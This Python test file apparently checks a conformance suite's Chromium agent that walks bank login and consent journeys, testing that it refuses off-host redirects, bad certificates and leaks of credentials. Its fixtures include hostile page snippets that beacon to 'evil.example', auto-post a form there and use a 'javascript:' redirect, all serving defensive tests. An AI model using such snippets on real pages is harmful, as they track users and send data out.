"""The browser agent plays the form agent's journeys in Chromium: with scripts, inside the bank, with pictures."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from conformance.clock import Clock
from conformance.errors import Unobservable
from conformance.exchange import FailureKind
from conformance.oauth.authorization import AuthorizationRequest
from conformance.oauth.landing import Ending, Landing
from conformance.pki.authority import Authority
from conformance.psu.browser import Browser
from conformance.psu.browser_agent import BrowserAgent
from conformance.psu.browser_agent_chromium import Chromium, missing
from conformance.psu.conduct import Conduct
from conformance.selftest.hostile import HOST, HostileServer, Peer, Reply, http, server_context, serving
from conformance.selftest.test_psu_agent import (
    BACK,
    CALLBACK,
    CONSENT,
    LOGIN,
    REQUEST,
    agent,
    browser,
    psu,
)
from conformance.target.model import Psu
from conformance.wire.client import Wire
from conformance.wire.masking import Masking
from conformance.wire.recorder import Recorder
from conformance.wire.redaction import Redactor

TPP = "tpp.example"
EVIL = "evil.example"


@pytest.fixture(scope="module")
def chromium() -> Iterator[Chromium]:
    """One for all tests here; without one they are skipped, or fail where the environment demands one."""
    lacking = missing()
    if lacking and os.environ.get("CONFORMANCE_REQUIRE_BROWSER") == "1":
        pytest.fail(lacking)
    if lacking:
        pytest.skip(lacking)
    found = Chromium()
    yield found
    found.close()


class Played:
    """A PSU in Chromium before a server that answers as it is told."""

    def __init__(
        self,
        chromium: Chromium,
        server: HostileServer,
        *,
        synthetic: bool = True,
        person: Psu | None = None,
    ) -> None:
        self.events: list[dict[str, Any]] = []
        self.pictures: dict[str, bytes] = {}
        store = self.pictures.__setitem__
        self.recorder = Recorder(self.events.append, Masking(Redactor()), Clock(), store)
        self.agent = BrowserAgent("someone", person or psu(), self.recorder, chromium, synthetic=synthetic)
        network = server.network(HOST, TPP, EVIL)
        self._wire = Wire(network, self.recorder)

    def window(self) -> Browser:
        """A window without cookies."""
        return self.agent.new_browser(self._wire.client(), frozenset({HOST}))

    def play(self, request: AuthorizationRequest = REQUEST, *, cancel_at: str | None = None) -> Landing:
        """Walk the journey in a new window."""
        return self.agent.play(self.window(), request, cancel_at=cancel_at)

    def look(self, request: AuthorizationRequest = REQUEST, method: str = "GET") -> Landing:
        """Open the URL in a new window."""
        return self.agent.look(self.window(), request, method=method)

    def told(self, kind: str) -> list[dict[str, Any]]:
        """The events of one kind."""
        return [event for event in self.events if event["event"] == kind]


def test_a_journey_ends_at_the_redirect_uri_which_is_never_requested(chromium: Chromium) -> None:
    with serving(http(302, b"", "Location: /login?step=1"), LOGIN, CONSENT, BACK) as server:
        played = Played(chromium, server)
        landing = played.play()

    assert landing.ending is Ending.REDIRECT
    assert landing.response is not None
    assert landing.response.code == "abc"
    assert landing.exchange.status == 302
    assert (landing.played, landing.asked, len(landing.pages)) == (("login", "consent"), True, 2)
    assert server.paths[1:] == ["/login?step=1", "/login", "/consent?d=accept"]
    assert server.requests[2].endswith(b"c=1&user=someone&word=secret-1&action=login")
    assert all(b"Host: bank.example" in request for request in server.requests)
    purposes = [event["purpose"] for event in played.told("exchange")]
    assert purposes == [exchange.purpose for exchange in landing.exchanges]
    assert purposes[:2] == [
        "open the authorization URL in the PSU's browser",
        "follow the bank's own redirect",
    ]
    assert "secret-1" not in str(played.events)


def test_every_page_is_pictured_for_the_exchange_that_brought_it(chromium: Chromium) -> None:
    with serving(http(302, b"", "Location: /login"), LOGIN, CONSENT, BACK) as server:
        played = Played(chromium, server)
        landing = played.play()

    shots = played.told("screenshot")
    assert [shot["exchange"] for shot in shots] == [page.number for page in landing.pages]
    assert {shot["file"] for shot in shots} == set(played.pictures)
    assert all(picture.startswith(b"\x89PNG") for picture in played.pictures.values())


_BOXES = """<title>Accounts</title><form method=post action=/go><input type=hidden name=c value=1>{fields}
<input name=note value=standing><button name=action value=accept>Go</button></form>"""
_BOX = "<input type=checkbox name=account value={} {}>".format


@pytest.mark.parametrize(
    "fields",
    [
        "".join(_BOX(name, "checked") for name in ("one", "two", "three")),
        "".join(_BOX(name, "") for name in ("one", "two", "three")),
        _BOX("one", "checked") + _BOX("two", "style='display:none'") + _BOX("three", "checked"),
        "".join(f"<input type=radio name=account value={name} checked>" for name in ("one", "two", "three")),
        "<select name=account><option value=one>1<option value=two>2</select>",
        "<select name=account multiple><option value=one selected>1<option value=two>2</select>",
    ],
    ids=["all checked", "none checked", "hidden", "radio", "list", "list for several"],
)
def test_what_is_chosen_on_a_page_is_sent_as_by_the_form_agent(chromium: Chromium, fields: str) -> None:
    person = psu({"page": "accounts", "select": {"account": "two"}, "choose": "accept"})
    page = http(200, _BOXES.format(fields=fields))
    with serving(page, BACK) as server:
        agent(person).play(browser(server), REQUEST)
    by_form = server.requests[1].rpartition(b"\r\n\r\n")[2]
    with serving(page, BACK) as server:
        Played(chromium, server, person=person).play()

    assert by_form.count(b"account=") == by_form.count(b"account=two") == 1
    assert sorted(server.requests[1].rpartition(b"\r\n\r\n")[2].split(b"&")) == sorted(by_form.split(b"&"))


def test_cookies_are_the_window_s_own(chromium: Chromium) -> None:
    page = http(
        200, "<title>x</title>", "Set-Cookie: __Host-s=kept-1; Path=/; Secure; HttpOnly; SameSite=Lax"
    )
    with serving(page) as server:
        played = Played(chromium, server)
        window = played.window()
        landing = played.agent.look(window, REQUEST)
        played.agent.look(window, REQUEST)
        played.look()

    assert landing.cookies == ("kept-1",)
    assert [b"Cookie: __Host-s=kept-1" in request for request in server.requests] == [False, True, False]


def test_the_request_is_posted_as_it_was_written(chromium: Chromium) -> None:
    request = REQUEST.written("state=a%2fb&redirect_uri=https%3a%2f%2ftpp.example%2fcb")
    with serving(LOGIN) as server:
        played = Played(chromium, server)
        assert played.look(request, "POST").step is not None
        assert played.look(request).step is not None

    assert server.requests[0].startswith(b"POST /authorize ")
    assert server.requests[0].endswith(str(request.query).encode())
    assert server.paths[1] == f"/authorize?{request.query}"


_APP = """<title>App</title><main id=m></main><script>
const m = document.getElementById('m');
const show = (html, press) => { m.innerHTML = html; m.querySelector('button').onclick = press; };
setTimeout(() => show('<input name=user><input type=password name=word><button type=button value=login>Go</button>',
  () => { const [user, word] = [...m.querySelectorAll('input')].map(field => field.value);
    fetch('/session', {method: 'POST', body: JSON.stringify({user, word})}).then(answer => answer.json())
      .then(found => show('<p>' + found.words + '</p><button value=accept>Allow</button>',
        () => { location.href = found.leads; })); }), 300);
</script>"""


def test_an_application_in_a_page_is_played_as_a_page(chromium: Chromium) -> None:
    answer = http(
        200, f'{{"words": "Allow?", "leads": "{CALLBACK}?code=abc"}}', media_type="application/json"
    )
    with serving(http(200, _APP), answer) as server:
        landing = Played(chromium, server).play()

    assert landing.ending is Ending.REDIRECT
    assert landing.response is not None
    assert landing.response.code == "abc"
    assert landing.played == ("login", "consent")
    assert server.requests[1].endswith(b'{"user":"someone","word":"secret-1"}')
    assert len(server.requests) == 2


def test_a_page_that_a_script_submits_is_followed(chromium: Chromium) -> None:
    form = "<form method=post action=/on><input type=hidden name=a value=b></form>"
    page = f"{form}<script>document.forms[0].submit()</script>"
    with serving(http(200, page), LOGIN, CONSENT, BACK) as server:
        landing = Played(chromium, server).play()

    assert landing.ending is Ending.REDIRECT
    assert server.paths[1] == "/on"
    assert server.requests[1].endswith(b"a=b")


@pytest.mark.parametrize(
    "location",
    [
        f"{CALLBACK}?code=abc",
        f"https://{EVIL}/x",
        f"http://{HOST}/plain",
        "javascript:alert(1)",
        "myapp://callback?code=1",
        "https://[::1",
        f"https://{HOST}@{EVIL}/",
    ],
)
def test_a_redirect_out_of_the_bank_is_never_followed(chromium: Chromium, location: str) -> None:
    with serving(http(302, b"", f"Location: {location}"), http(404)) as server:
        landing = Played(chromium, server).play()

    assert landing.ending is Ending.REDIRECT
    assert len(server.requests) == server.connections == 1


_LEAVES = {
    "script": f"<title>x</title><script>location = '{CALLBACK}?code=abc'</script>",
    "refresh": f"<title>x</title><meta http-equiv=refresh content='0;url={CALLBACK}?code=abc'>",
}


@pytest.mark.parametrize("page", _LEAVES.values(), ids=_LEAVES.keys())
def test_a_page_that_leaves_by_itself_ends_the_journey(chromium: Chromium, page: str) -> None:
    with serving(http(200, page)) as server:
        landing = Played(chromium, server).play()

    assert landing.response is not None
    assert landing.response.code == "abc"
    assert len(server.requests) == 1


def test_what_a_page_wants_from_elsewhere_is_refused_and_recorded(chromium: Chromium) -> None:
    page = f"""<title>x</title><img src=https://{EVIL}/pixel?who=someone><img src=/logo>
<script src=https://{EVIL}/a.js></script><script>
fetch('https://{EVIL}/beacon').catch(() => 0); fetch('https://127.0.0.1:9/').catch(() => 0);
try {{ new WebSocket('wss://{EVIL}/socket') }} catch (e) {{}}
new Worker(URL.createObjectURL(new Blob(["fetch('https://{EVIL}/worker').catch(() => 0)"])));
window.open('https://{EVIL}/window');
</script><form method=post action=https://{EVIL}/take id=f><input name=q value=v></form>
<script>setTimeout(() => document.getElementById('f').submit(), 300)</script>"""
    with serving(http(200, page), http(404)) as server:
        played = Played(chromium, server)
        landing = played.look()

    assert landing.ending is Ending.ELSEWHERE
    assert {*server.paths[1:]} == {"/logo"}
    assert all(b"Host: bank.example\r\n" in request for request in server.requests)
    blocked = {event["url"].partition("?")[0] for event in played.told("blocked")}
    assert {f"https://{EVIL}/{name}" for name in ("pixel", "a.js", "beacon", "take")} <= blocked
    assert "who=someone" not in str(played.events)


def test_chromium_opens_no_connection_of_its_own(chromium: Chromium) -> None:
    script = "<script>%s</script>"
    with serving(http(200, "")) as other, serving(http(200, "")) as server:
        page = script % (
            f"for (const u of ['https://127.0.0.1:{other.port}/', 'http://127.0.0.1:{other.port}/'])"
            " { fetch(u, {mode: 'no-cors'}).catch(() => 0);"
            " new Worker(URL.createObjectURL(new Blob([`fetch('${u}', {mode: 'no-cors'}).catch(() => 0)`]))); }"
            f" new WebSocket('ws://127.0.0.1:{other.port}/'); new WebSocket('wss://127.0.0.1:{other.port}/');"
        )
        server._replies = (http(200, f"<title>x</title>{page}"),)
        Played(chromium, server).look()
        time.sleep(0.5)

    assert other.connections == 0


@pytest.mark.parametrize("action", [CALLBACK, f"http://{HOST}/login", f"https://{EVIL}/login"])
def test_credentials_are_never_sent_out_of_the_bank(chromium: Chromium, action: str) -> None:
    page = (
        f"<form method=post action='{action}'><input name=user><input name=word><button value=login>Go</form>"
    )
    with serving(http(200, page)) as server, pytest.raises(Unobservable, match="leads out of the bank"):
        Played(chromium, server).play()

    assert len(server.requests) == 1


def test_a_server_certificate_of_another_authority_is_refused(chromium: Chromium) -> None:
    other = Authority("Another root").server(HOST)
    with serving(LOGIN, context=server_context(other)) as server:
        played = Played(chromium, server)
        landing = played.play()

    assert landing.ending is Ending.FAILURE
    assert landing.exchange.failure is not None
    assert landing.exchange.failure.kind is FailureKind.SERVER_CERTIFICATE
    assert server.requests == []
    assert len(played.told("screenshot")) == 1


def test_redirects_without_end_are_left(chromium: Chromium) -> None:
    with serving(http(302, b"", "Location: /authorize")) as server:
        landing = Played(chromium, server).play()

    assert landing.described == "redirects inside the bank without end"
    assert len(server.requests) <= 21


def test_a_redirect_that_the_page_s_own_policy_forbids_is_not_gone(chromium: Chromium) -> None:
    policy = "Content-Security-Policy: form-action 'self'"
    consent = http(200, "<form action=/consent><button name=d value=accept>A</button></form>", policy)
    with serving(consent, BACK) as server:
        landing = Played(chromium, server).play()

    assert landing.ending is Ending.ELSEWHERE
    assert landing.exchange.status == 302


def test_a_step_is_answered_once_more_as_from_the_history(chromium: Chromium) -> None:
    with serving(LOGIN, CONSENT, BACK) as server:
        played = Played(chromium, server)
        window = played.window()
        first = played.agent.look(window, REQUEST)
        second = played.agent.resume(window, first, Conduct(stop_at="consent"))
        again = played.agent.resume(window, first, Conduct(stop_at="consent"))

    assert second.step is not None
    assert again.ending is Ending.REDIRECT
    assert server.requests[2].startswith(b"POST /login ")
    assert server.requests[2].partition(b"\r\n\r\n")[2] == server.requests[1].partition(b"\r\n\r\n")[2]


def test_a_page_that_comes_again_is_not_answered_again(chromium: Chromium) -> None:
    with serving(LOGIN) as server, pytest.raises(Unobservable, match="asks again for 'login'"):
        Played(chromium, server).play()

    assert len(server.requests) == 2


@pytest.mark.parametrize(
    ("reply", "ending"),
    [
        (http(500, "<h1>Error</h1>"), Ending.ELSEWHERE),
        (http(200, '{"error":"x"}', media_type="application/json"), Ending.ELSEWHERE),
        (http(204), Ending.ELSEWHERE),
        (http(302, "<p>no location"), Ending.ELSEWHERE),
        (
            http(200, b"zip", "Content-Disposition: attachment", media_type="application/zip"),
            Ending.ELSEWHERE,
        ),
        (b"garbage\r\n\r\n", Ending.FAILURE),
        (Peer.hold, Ending.FAILURE),
    ],
)
def test_what_is_no_page_of_the_journey_ends_it(chromium: Chromium, reply: Reply, ending: Ending) -> None:
    with serving(reply) as server:
        assert Played(chromium, server).play().ending is ending


def test_a_script_without_end_is_left_and_its_window_closed(chromium: Chromium) -> None:
    begun = time.monotonic()
    with serving(http(200, "<title>x</title><script>setTimeout(() => { for (;;); }, 50)</script>")) as server:
        with pytest.raises(Unobservable, match="script of the page has not paused"):
            Played(chromium, server).play()
        server._replies = (LOGIN,)
        assert Played(chromium, server).look().step is not None

    assert time.monotonic() - begun < 40


_ENDED = """
import sys
from conformance.psu.browser_agent_chromium import Chromium
chromium = Chromium()
async def nothing(): return None
chromium.run(nothing(), 60)
print('ready', flush=True)
sys.stdin.read() if sys.argv[1] == 'waits' else chromium.close() if sys.argv[1] == 'closes' else None
"""


def _descendants(root: int) -> set[int]:
    parents = {}
    for entry in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = entry.read_text().rpartition(")")[2].split()
        except OSError:
            continue
        parents[int(entry.parent.name)] = int(fields[1])
    found = {root}
    while more := {child for child, parent in parents.items() if parent in found} - found:
        found |= more
    return found - {root}


@pytest.mark.parametrize("way", ["closes", "forgets", "killed"])
def test_no_process_is_left_behind(chromium: Chromium, way: str) -> None:
    del chromium  # it says whether there is one
    command = [sys.executable, "-c", _ENDED, "waits" if way == "killed" else way]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"ready\n"
        children = _descendants(process.pid)
        if way == "killed":
            assert children
            process.kill()
        process.wait(40)

    until = time.monotonic() + 20
    while (left := {pid for pid in children if _lives(pid)}) and time.monotonic() < until:
        time.sleep(0.1)
    assert not left


def _lives(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0]
    except OSError:
        return False
    return state != "Z"
